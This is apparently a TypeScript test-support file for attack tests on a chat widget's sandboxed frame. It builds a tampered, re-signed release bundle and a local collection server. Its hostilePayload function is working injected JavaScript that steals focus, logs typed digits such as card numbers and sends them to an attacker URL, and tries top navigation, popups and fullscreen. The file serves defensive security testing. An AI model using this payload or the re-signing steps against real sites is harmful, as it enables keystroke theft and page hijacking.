/**
 * What the attack tests share: the attacker's collection server, a snapshot of the built release,
 * and a widget frame bundle modified by an attacker and signed with a key the node trusts (the
 * release signing key itself stolen: DESIGN.md's worst case).
 */
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { generateReleaseKey, loadPrivateKey, signRelease, sri384, type Manifest } from '../server/security/release.js';
import { ROOT } from './harness.js';

export const CARD = '4242424242424242';

export interface Hit {
  method: string;
  url: string;
  body: string;
}

/** The attacker's collection server: records everything, answers 204 to anything (CORS open). */
export async function attackerServer(): Promise<{ origin: string; hits: Hit[]; bytes: () => number; close: () => Promise<void> }> {
  const hits: Hit[] = [];
  const srv: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      hits.push({ method: req.method ?? '', url: req.url ?? '', body });
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
  const port = (srv.address() as { port: number }).port;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    bytes: () => hits.reduce((n, h) => n + h.url.length + h.body.length, 0),
    close: () => new Promise((r) => srv.close(() => r())),
  };
}

export const leaked = (hits: Hit[]) => hits.filter((h) => decodeURIComponent(h.url + ' ' + h.body).replace(/\D/g, '').includes(CARD));

/** A snapshot of the built public files, so a concurrent `npm run build` cannot disturb a run. */
export function takeSnapshot(): string {
  const snapshot = mkdtempSync(join(tmpdir(), 'parley-attack-snapshot-'));
  cpSync(join(ROOT, 'dist', 'public'), snapshot, { recursive: true });
  if (!existsSync(join(snapshot, 'release.json'))) throw new Error('dist/public is not a signed build (run npm run build)');
  return snapshot;
}

/** Copies the snapshot's public files (with their signed manifest) to a temp dir. */
export function copyRelease(snapshot: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'parley-attack-public-'));
  cpSync(snapshot, dir, { recursive: true });
  return dir;
}

/** Rewrites the manifest of `dir` to match its (patched) files, as an attacker with build access would. */
export function rewriteManifest(dir: string): void {
  const path = join(dir, 'manifest.json');
  const m = JSON.parse(readFileSync(path, 'utf8')) as Manifest;
  for (const file of Object.keys(m.files)) m.files[file] = sri384(readFileSync(join(dir, file)));
  writeFileSync(path, JSON.stringify(m, null, 2));
}

/** The frame bundle's file name inside a release dir. */
export function frameBundle(dir: string): string {
  const assets = join(dir, 'widget', 'frame', 'assets');
  return join(assets, readdirSync(assets).find((f) => f.endsWith('.js'))!);
}

/**
 * Appends `payload` to the frame bundle, rewrites the manifest and signs it with a fresh key.
 * Returns the release dir and the env a node needs to trust it (the stolen-key case).
 */
export function hostileRelease(snapshot: string, payload: string): { dir: string; env: Record<string, string>; cleanup: () => void } {
  const dir = copyRelease(snapshot);
  const bundle = frameBundle(dir);
  writeFileSync(bundle, readFileSync(bundle, 'utf8') + payload);
  rewriteManifest(dir);
  const keyRoot = mkdtempSync(join(tmpdir(), 'parley-attacker-key-'));
  const key = generateReleaseKey(join(keyRoot, 'key'));
  signRelease({ publicDir: dir, privateKey: loadPrivateKey(key.privateKeyFile), logPath: join(keyRoot, 'log.json') });
  return {
    dir,
    env: { PUBLIC_DIR: dir, RELEASE_PUBLIC_KEY: key.trusted.publicKey },
    cleanup: () => {
      rmSync(dir, { recursive: true, force: true });
      rmSync(keyRoot, { recursive: true, force: true });
    },
  };
}

/**
 * Everything a hostile frame can try against the host page, all at once, logging each attempt as
 * `PARLEY-ATTACK <what> <result>` to its console:
 *  - focus theft: window.focus() and its own input's focus() every 25 ms; every digit key it sees is
 *    logged (KEYS <digits so far>) and sent to the attacker by navigating itself (204: it stays),
 *    the one channel its CSP cannot close;
 *  - asking to open, grow and go full-screen: old-protocol layout messages to its parent (any
 *    origin), and on the loader's port 'open' and layout objects, every 100 ms;
 *  - on every click inside it (a user activation): top navigation (location and a target=_top link),
 *    popups (window.open and a target=_blank link), the Fullscreen API.
 */
export function hostilePayload(attacker: string): string {
  return `
;(function () {
  var A = ${JSON.stringify(attacker)}, keys = '', sent = '', port = null;
  function log(m) { console.log('PARLEY-ATTACK ' + m); }
  addEventListener('keydown', function (e) { if (/^[0-9]$/.test(e.key)) { keys += e.key; log('KEYS ' + keys); } }, true);
  addEventListener('message', function (e) { if (e.ports && e.ports[0]) port = e.ports[0]; });
  var n = 0, steal = setInterval(function () {
    try { window.focus(); var i = document.querySelector('textarea, input'); if (i) i.focus(); } catch (e) {}
    if (++n > 1200) clearInterval(steal);
  }, 25);
  var g = 0, grow = setInterval(function () {
    var big = { m: 'parley/1', type: 'layout', open: true, position: 'right', width: 5000, height: 5000 };
    try { parent.postMessage(big, '*'); } catch (e) {}
    try { if (port) { port.postMessage('open'); port.postMessage(big); } } catch (e) {}
    if (++g > 300) clearInterval(grow);
  }, 100);
  setInterval(function () {
    if (keys !== sent) { sent = keys; try { location.href = A + '/self?k=' + keys; } catch (e) {} }
  }, 1000);
  var busy = false;
  addEventListener('click', function () {
    if (busy) return; // its own link clicks below come back here
    busy = true;
    try { top.location.href = A + '/top?k=' + keys; log('TOP navigated'); } catch (e) { log('TOP ' + e.name); }
    try { var w = window.open(A + '/popup?k=' + keys); log('POPUP ' + (w ? 'opened' : 'blocked')); } catch (e) { log('POPUP ' + e.name); }
    try { var a = document.createElement('a'); a.href = A + '/anchor-top'; a.target = '_top'; document.body.appendChild(a); a.click(); } catch (e) {}
    try { var b = document.createElement('a'); b.href = A + '/anchor-blank'; b.target = '_blank'; document.body.appendChild(b); b.click(); } catch (e) {}
    try { document.documentElement.requestFullscreen().then(function () { log('FULLSCREEN granted'); }, function (e) { log('FULLSCREEN ' + e.name); }); } catch (e) { log('FULLSCREEN ' + e.name); }
    busy = false;
  }, true);
  log('LOADED');
})();
`;
}
